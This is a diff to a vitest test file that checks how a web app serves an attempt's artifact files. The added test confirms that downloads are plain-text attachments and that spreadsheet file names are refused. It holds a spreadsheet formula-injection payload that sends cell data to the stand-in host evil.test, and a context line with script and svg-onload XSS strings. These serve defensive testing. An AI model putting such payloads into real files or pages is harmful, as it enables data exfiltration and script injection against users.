@@ -1,4 +1,5 @@
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { ArtifactName } from '../files/attempt-folder.ts';
 import { type Browser, TestPage } from '../testing/page.ts';
 
 const hostile = '<!doctype html><script>alert(1)</script><svg onload=alert(1)>';
@@ -34,6 +35,20 @@ describe('files of an attempt', () => {
       'cache-control': 'no-store',
       'cross-origin-resource-policy': 'same-origin',
     });
+  });
+
+  it('W26 are under names that no spreadsheet opens, for a cell may begin with =', async () => {
+    const formula = '=HYPERLINK("http://evil.test/?"&A1)';
+    await using sheet = await TestPage.make({ files: { 'artifacts/0': formula } });
+    const reader = await sheet.signIn();
+    const answer = await reader.get(at('download', 'artifacts/0'));
+    expect(answer.text).toBe(formula);
+    expect(answer.headers).toMatchObject({
+      'content-type': 'text/plain; charset=utf-8',
+      'content-disposition': 'attachment; filename="t1-1-artifacts_0"',
+    });
+    for (const name of ['artifacts/0.csv', 'artifacts/table.xlsx', 'result.csv', 'diffs/a.csv', 'plan.csv'])
+      expect([name, ArtifactName.safeParse(name).success]).toEqual([name, false]);
   });
 
   it('come in parts, by where they begin and how many bytes are wanted', async () => {
